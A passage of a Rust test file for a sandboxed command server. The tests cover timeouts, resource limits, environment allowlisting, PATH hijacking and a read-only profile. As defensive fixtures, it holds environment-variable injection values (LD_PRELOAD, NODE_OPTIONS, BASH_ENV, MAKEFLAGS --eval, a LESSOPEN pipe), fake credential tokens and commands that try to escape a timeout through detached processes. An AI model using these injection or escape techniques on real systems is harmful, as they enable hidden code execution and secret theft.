    // Descriptors of the server do not reach the command (only 0, 1, 2 and the probe's own).
    let text = b.probe(&mut s, &["fds"]);
    let list = text.split("FDS: ").nth(1).unwrap().lines().next().unwrap();
    let fds: Vec<u32> = serde_json::from_str(list).unwrap();
    assert!(fds.len() >= 3 && fds[..3] == [0, 1, 2] && fds.len() <= 4, "{fds:?}");
    drop(s);
    b.assert_contained(false);
}

#[test]
fn sandbox_timeout_escapes_are_killed() {
    let mut b = build_box();
    let marker = unique_sleep();
    let mut s = shell(&b.root, "build-test");
    let t0 = std::time::Instant::now();
    let cmd = format!(
        "CMD=setsid sleep {marker} & nohup sleep {marker} >/dev/null 2>&1 & (trap '' HUP TERM; sleep {marker}) & echo started; sleep {marker}"
    );
    let (code, out) = b.run_with(&mut s, "make", &["-s".into(), "sh".into(), cmd], json!({"timeout_ms": 1000}));
    assert!(code.as_deref() == Some("timeout") && out["stdout"] == "started\n", "{code:?} {out}");
    assert!(t0.elapsed() < Duration::from_secs(5));
    assert_eq!(
        wait_gone(&marker, Duration::from_secs(2)),
        Vec::<u32>::new(),
        "a detached process survived the timeout"
    );
    // Same with start_process + kill_process.
    let (code, p) = b.call(
        &mut s,
        "start_process",
        json!({"program": "make", "args": ["-s", "sh", format!("CMD=setsid sleep {marker} & sleep {marker}")]}),
    );
    assert!(code.is_none(), "{p}");
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while pgrep(&marker, Some("sleep")).len() < 2 && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(pgrep(&marker, Some("sleep")).len(), 2);
    b.call(&mut s, "kill_process", json!({"id": p["id"]}));
    assert_eq!(wait_gone(&marker, Duration::from_secs(2)), Vec::<u32>::new());
    drop(s);
    b.assert_contained(false);
}

#[test]
fn sandbox_rlimits() {
    let mut b = build_box();
    let mut s = shell(&b.root, "build-test");
    let out = b.sandboxed(&mut s, "cat /proc/self/limits", 20_000);
    drop(s);
    let field = |l: &str, a: usize, z: usize| l.get(a..z.min(l.len())).unwrap_or_default().trim().to_string();
    let limits: BTreeMap<String, (String, String)> =
        stdout(&out).lines().skip(1).map(|l| (field(l, 0, 26), (field(l, 26, 47), field(l, 47, 68)))).collect();
    let pair = |a: &str| (a.to_string(), a.to_string());
    assert_eq!(limits["Max open files"], pair("4096"));
    assert_eq!(limits["Max core file size"], pair("0"));
    assert_eq!(limits["Max cpu time"], pair("900"));
    assert_eq!(limits["Max file size"], pair(&(2048u64 << 20).to_string()));
    assert_eq!(limits["Max address space"], pair(&(8192u64 << 20).to_string()));

    let config = b.cfg.join("limits.toml");
    write(
        &config,
        "[shell]\nprofile = \"build-test\"\n[shell.rlimits]\nfile_size_mib = 1\ncpu_seconds = 1\nopen_files = 64\n",
    );
    let mut s = shell_with(&b.root, None, Some(&config), &[]);
    let out = b.sandboxed(&mut s, "head -c 3000000 /dev/zero > big.bin; echo exit=$?", 20_000);
    assert!(std::fs::metadata(b.root.join("big.bin")).unwrap().len() <= 1 << 20);
    assert!(!stdout(&out).contains("exit=0"), "{out}");
    let text = b.probe(&mut s, &["bigwrite", "big2.bin", &(3u64 << 20).to_string()]);
    assert!(!text.contains("BIGWROTE") && std::fs::metadata(b.root.join("big2.bin")).unwrap().len() <= 1 << 20);
    let t0 = std::time::Instant::now();
    let out = b.sandboxed(&mut s, "python3 -c 'while True: pass'; echo exit=$?", 15_000);
    assert!(t0.elapsed() < Duration::from_secs(8) && !stdout(&out).contains("exit=0"), "{out}");
    let out = b.sandboxed(
        &mut s,
        "python3 -c 'import os; [os.open(\"/dev/null\", 0) for _ in range(100)]' 2>&1 | tail -1",
        20_000,
    );
    assert!(stdout(&out).contains("Too many open files"), "{out}");
    drop(s);
    std::fs::remove_file(b.root.join("big.bin")).unwrap();
    std::fs::remove_file(b.root.join("big2.bin")).unwrap();
    b.assert_contained(false);
}

const SECRET_ENV: [(&str, &str); 19] = [
    ("GITHUB_TOKEN", "ghp_SECRETVALUE-github"),
    ("MY_SECRET", "SECRETVALUE-my"),
    ("AWS_SECRET_ACCESS_KEY", "SECRETVALUE-aws"),
    ("OPENAI_API_KEY", "SECRETVALUE-openai"),
    ("SSH_AUTH_SOCK", "/tmp/SECRETVALUE-agent.sock"),
    ("LD_PRELOAD", "/nonexistent/SECRETVALUE.so"),
    ("LD_LIBRARY_PATH", "/nonexistent/SECRETVALUE"),
    ("NODE_OPTIONS", "--require /nonexistent/SECRETVALUE.js"),
    ("RIPGREP_CONFIG_PATH", "{root}/rgrc"),
    ("PYTEST_ADDOPTS", "-p SECRETVALUE"),
    ("PYTHONPATH", "{root}/evilpy"),
    ("PYTHONSTARTUP", "{root}/evilpy/sitecustomize.py"),
    ("GIT_DIR", "/nonexistent/SECRETVALUE-git"),
    ("LESSOPEN", "|/nonexistent/SECRETVALUE %s"),
    ("BASH_ENV", "{root}/pre.sh"),
    ("ENV", "{root}/pre.sh"),
    ("MAKEFLAGS", "--eval=$(info SECRETVALUE-makeflags)"),
    ("PAGER", "/nonexistent/SECRETVALUE-pager"),
    ("DBUS_SESSION_BUS_ADDRESS", "unix:path=/tmp/SECRETVALUE-bus"),
];

/// What a command may see: the fixed variables, the profile's set_env and pass_env, and what
/// make and the shell add themselves.
const ALLOWED_ENV: [&str; 35] = [
    "PATH",
    "HOME",
    "TMPDIR",
    "LANG",
    "TERM",
    "CARGO_NET_OFFLINE",
    "CARGO_TERM_COLOR",
    "NO_COLOR",
    "GOFLAGS",
    "GOPROXY",
    "npm_config_offline",
    "npm_config_update_notifier",
    "PYTHONDONTWRITEBYTECODE",
    "CARGO_HOME",
    "RUSTUP_HOME",
    "RUSTUP_TOOLCHAIN",
    "GOROOT",
    "GOPATH",
    "GOCACHE",
    "GOMODCACHE",
    "PYENV_ROOT",
    "PYENV_VERSION",
    "VIRTUAL_ENV",
    "JAVA_HOME",
    "MAKELEVEL",
    "MAKEFLAGS",
    "MFLAGS",
    "MAKE_TERMOUT",
    "MAKE_TERMERR",
    "MAKEOVERRIDES",
    "CMD",
    "ARGS",
    "PWD",
    "OLDPWD",
    "SHLVL",
];

#[test]
fn sandbox_environment_is_allowlisted() {
    let mut b = build_box();
    write(b.root.join("rgrc"), "--pre=./pre.sh\n");
    write(b.root.join("evilpy/sitecustomize.py"), format!("print('RAN-{}')\n", b.marker));
    let env: Vec<(String, String)> = SECRET_ENV.iter().map(|(k, v)| (k.to_string(), b.sub(v))).collect();
    let mut s = shell_with(&b.root, Some("build-test"), None, &env);
    let out = b.sandboxed(&mut s, "env", 20_000);
    let lines: BTreeMap<&str, &str> = stdout(&out).lines().filter_map(|l| l.split_once('=')).collect();
    let unexpected: Vec<&&str> = lines.keys().filter(|k| !ALLOWED_ENV.contains(k) && **k != "_").collect();
    assert!(unexpected.is_empty(), "unexpected variables: {unexpected:?}");
    for k in ["PATH", "HOME", "TMPDIR", "LANG", "TERM"] {
        assert!(lines.contains_key(k), "{k}");
    }
    assert!(!out.to_string().contains("SECRETVALUE"));
    // make puts its own flags and command-line variables there (`s -- CMD=env`), nothing else.
    assert_eq!(lines["MAKEFLAGS"], "s -- CMD=env");
    assert!(lines["LANG"] == "C.UTF-8" && lines["TERM"] == "dumb");
    assert!(!lines["HOME"].starts_with("/root") && lines["HOME"] == lines["TMPDIR"]);
    let base = b.base.display().to_string();
    assert!(
        lines["PATH"].split(':').all(|p| ["/usr/local/bin", "/usr/bin", "/bin"].contains(&p) || !p.starts_with(&base))
    );
    let text = b.probe(&mut s, &["env"]);
    assert!(!text.contains("SECRETVALUE") && !text.contains(&format!("RAN-{}", b.marker)));
    let (code, out) = b.run(&mut s, "rg", &["hello".into(), "in.txt".into()], None);
    assert!(code.is_none() && out["stdout"] == "hello\n", "{out}");
    drop(s);
    let mut s = shell_with(&b.root, Some("read-only"), None, &env);
    let (code, out) = b.run(&mut s, "rg", &["hello".into()], None);
    assert!(code.is_none() && !stdout(&out).contains(&format!("RAN-{}", b.marker)));
    let (_, out) = b.run(&mut s, "echo", &["$GITHUB_TOKEN".into(), "${MY_SECRET}".into()], None);
    assert_eq!(out["stdout"], "$GITHUB_TOKEN ${MY_SECRET}\n");
    drop(s);
    b.assert_contained(false);
}

#[test]
fn sandbox_scratch_home_is_private_and_removed() {
    let mut b = build_box();
    let mut s = shell(&b.root, "build-test");
    let out = b.sandboxed(&mut s, "echo x > $HOME/f && echo HOME=$HOME && ls $TMPDIR/.. ; echo rc=$?", 20_000);
    let home = PathBuf::from(stdout(&out).lines().find_map(|l| l.strip_prefix("HOME=")).unwrap());
    assert!(!stdout(&out).contains("rc=0"), "a command can list the other commands' scratch directories");
    assert!(!home.exists(), "the scratch directory outlived its command");
    let parent = home.parent().unwrap().to_path_buf();
    assert!(parent.is_dir() && std::fs::metadata(&parent).unwrap().permissions().mode() & 0o7777 == 0o700);
    s.close();
    assert!(!parent.exists(), "the server's scratch directory outlived the server");
    b.assert_contained(false);
}

#[test]
fn sandbox_program_on_a_root_in_path_is_refused() {
    let mut b = build_box();
    // A root on the server's PATH must never provide a "trusted" program.
    for name in ["go", "pytest"] {
        let fake = b.root.join("bin").join(name);
        write(&fake, format!("#!/bin/sh\necho RAN-{}\n", b.marker));
        std::fs::set_permissions(&fake, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let path = format!("{}:/usr/local/bin:/usr/bin:/bin", b.root.join("bin").display());
    let mut s = shell_with(&b.root, Some("build-test"), None, &[("PATH".into(), path)]);
    for (program, args) in [("go", "version"), ("pytest", "-q")] {
        let (code, out) = b.run(&mut s, program, &[args.to_string()], None);
        assert_eq!(code.as_deref(), Some("command_not_allowed"), "{program} {out}");
    }
    drop(s);
    b.assert_contained(false);
}

// ---------------------------------------------------------------------------------------------
// The read-only profile cannot write, even inside the root
// ---------------------------------------------------------------------------------------------

#[test]
fn read_only_profile_cannot_write() {
    let mut b = build_box();
    let mut s = shell(&b.root, "read-only");
    let (code, out) = b.run(&mut s, "cat", &["in.txt".into()], None);
    assert!(code.is_none() && out["stdout"] == "hello\nworld\n");
    for args in [&["-o", "out.txt", "a.txt"][..], &["--output=out.txt", "a.txt"], &["-ro", "a.txt", "a.txt"]] {
        assert_eq!(b.run(&mut s, "sort", &b.sub_all(args), None).0.as_deref(), Some("argument_not_allowed"));
    }
    assert_eq!(
        b.run(&mut s, "make", &["sh".into(), "CMD=touch x".into()], None).0.as_deref(),
        Some("command_not_allowed")
    );
    assert_eq!(b.run(&mut s, "cargo", &["build".into()], None).0.as_deref(), Some("command_not_allowed"));
    drop(s);
    // Even a writing program added by the operator's config cannot write: the roots are
    // read-only in the read-only profile's sandbox.
    let config = b.cfg.join("ro.toml");
    write(
        &config,
        "[shell]\nprofile = \"read-only\"\n[shell.programs.touch]\noperands = \"paths\"\n[shell.programs.cp]\noperands = \"paths\"\n",
    );
    let mut s = shell_with(&b.root, None, Some(&config), &[]);
    let denied = |out: &Value| {
        out["exit_code"] != 0
            && (stderr(out).contains("Permission denied") || stderr(out).contains("Read-only file system"))
    };
    let (code, out) = b.run(&mut s, "touch", &["new.txt".into()], None);
    assert!(code.is_none() && denied(&out), "{out}");
    let (code, out) = b.run(&mut s, "cp", &["in.txt".into(), "copy.txt".into()], None);
    assert!(code.is_none() && denied(&out), "{out}");
    let target = format!("{}/x", b.outside.display());
    let (code, _) = b.run(&mut s, "cp", &["in.txt".into(), target], None);
    assert_eq!(code.as_deref(), Some("path_outside_root"));
    drop(s);
    b.assert_contained(true);
    b.assert_contained(false);
}
